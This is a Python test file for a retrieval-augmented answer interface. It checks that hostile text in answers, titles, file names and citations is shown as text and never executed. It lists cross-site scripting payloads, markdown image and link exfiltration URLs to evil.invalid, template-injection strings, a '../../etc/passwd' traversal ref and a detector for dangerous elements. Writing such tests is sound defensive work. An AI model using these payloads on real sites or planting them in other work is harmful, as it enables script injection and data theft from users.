"""Whatever stands in a title, a text, a file name, a question or a model's words is shown, never obeyed."""

from __future__ import annotations

import pytest
from scripted import Rebuild, Scripted, absent, quoted

from rag.types import Answered, Citation, Draft, Evidence, Near, Retrieved

PAYLOADS = (
    "<script>window.__hit=1</script>",
    "<img src=x onerror=window.__hit=2>",
    "<svg onload=window.__hit=3><a href='javascript:window.__hit=4'>go</a></svg>",
    "![pixel](http://evil.invalid/q.png?secret)",
    "[1]: http://evil.invalid/ref 'title'",
    "[click](http://evil.invalid/link)",
    "<a style='position:fixed;inset:0' href='http://evil.invalid/cover'>cover</a>",
    "<form action='http://evil.invalid/form'><input name=p><button>Go</button></form>",
    "<style>body{display:none}</style><iframe src='http://evil.invalid/frame'></iframe>",
    "${Object.assign(window,{__hit:5})} {{constructor.constructor('window.__hit=6')()}}",
    "\"><img src=http://evil.invalid/attr.png onerror='window.__hit=7'><x y=\"",
    "</mark></div></article><video src=http://evil.invalid/v autoplay></video>",
    "<button class=un-cite data-ref=t0-c1>1</button> [1] $x$ `code` \\(math\\)",
)
ALL = " | ".join(PAYLOADS)
NAME = "<img src=x onerror=window.__hit=8>${window.__hit=9}.txt"
OURS = "#un-earlier, #un-current, #un-pane, #un-report, #un-listing, #un-status"
FOUND = f"""() => [...document.querySelectorAll('{OURS}')].flatMap(box => [...box.querySelectorAll('*')]).filter(e =>
    ['SCRIPT','STYLE','IFRAME','IMG','VIDEO','AUDIO','FORM','INPUT','A','LINK','OBJECT','SVG','svg'].includes(e.tagName)
    || getComputedStyle(e).position === 'fixed' || [...e.attributes].some(a => a.name.startsWith('on'))
).map(e => e.outerHTML.slice(0, 80))"""


def check(tab):
    tab.page.wait_for_timeout(150)
    assert tab.page.evaluate("window.__hit") is None
    assert tab.page.evaluate(FOUND) == []


@pytest.fixture
def hostile():
    text = f"{ALL}. A second sentence. {ALL}"
    return Scripted({NAME: text}, titles={NAME: ALL})


def test_everywhere_in_an_answer(serve, visit, hostile):
    cited = hostile.cite(1, NAME, f"{ALL}.")

    def script(question, history, sources):
        yield Retrieved(())
        yield Evidence((cited,))
        for payload in PAYLOADS:
            yield Draft(payload)
        yield Answered(quoted(question, (cited,), text=ALL.replace("[1]", "\\[1]") + " [1]"))

    hostile.script = script
    tab = visit(serve(hostile))
    tab.page.locator("#un-scope input").click()
    tab.page.get_by_role("option").first.click()
    tab.page.keyboard.press("Escape")
    tab.ask(ALL)
    check(tab)
    shown = tab.page.locator("#un-current .un-answer").inner_text()
    for payload in PAYLOADS:
        assert " ".join(payload.split()) in " ".join(shown.split())
    assert tab.page.locator("#un-current .un-answer .un-cite").count() == 1, "a literal [1] is no citation"
    tab.page.locator("#un-current .un-answer .un-cite").click()
    assert tab.page.locator("#un-pane mark").first.text_content() == f"{ALL}."
    assert tab.page.locator("#un-pane article").count() == 1
    check(tab)


def test_a_stopped_draft_and_an_absence(serve, visit, hostile):
    near = Near(NAME, ALL, 0, len(ALL), 0.5)
    hostile.script = lambda q, h, s: iter([Draft(ALL), Evidence(()), Answered(absent(q, [near], term=ALL))])
    tab = visit(serve(hostile))
    tab.ask("Anything?")
    tab.page.locator("#un-current summary").click()
    check(tab)
    tab.page.locator("#un-current .un-open").click()
    tab.page.locator("#un-pane mark").first.wait_for()
    check(tab)


def test_file_names_reasons_and_progress(serve, visit, hostile):
    rebuild = Rebuild(hostile, skipped=((NAME, ALL),))
    tab = visit(serve(hostile, rebuild))
    tab.page.get_by_role("tab", name="Articles").click()
    tab.page.locator("#un-files input[type=file]").set_input_files(
        {"name": NAME, "mimeType": "text/plain", "buffer": ALL.encode()}
    )
    tab.page.wait_for_timeout(600)
    tab.page.locator("#un-add").click()
    assert rebuild.started.wait(10)
    check(tab)
    rebuild.go.set()
    tab.page.locator("#un-report .un-skipped").wait_for()
    assert PAYLOADS[0] in tab.page.locator("#un-report").inner_text()
    check(tab)


def test_a_ref_of_nowhere_opens_nothing(serve, visit, hostile):
    tab = visit(serve(hostile))
    tab.ask("Anything?")
    before = tab.page.locator("#un-pane").inner_text()
    tab.page.evaluate(
        """() => { const b = document.createElement('button'); b.dataset.ref = '../../etc/passwd';
        document.querySelector('#un-current .un-turn').append(b); b.click(); }"""
    )
    check(tab)
    assert tab.page.locator("#un-pane").inner_text() == before


def test_offsets_outside_the_article_are_not_marked(serve, visit):
    assistant = Scripted({"a.txt": "Short."})
    wrong = Citation(1, "a.txt", None, "Short.", 2, 9_000, 0.9)
    assistant.script = lambda q, h, s: iter([Evidence((wrong,)), Answered(quoted(q, (wrong,)))])
    tab = visit(serve(assistant))
    tab.ask("Anything?")
    assert tab.page.locator("#un-pane .un-text").text_content() == "Short."
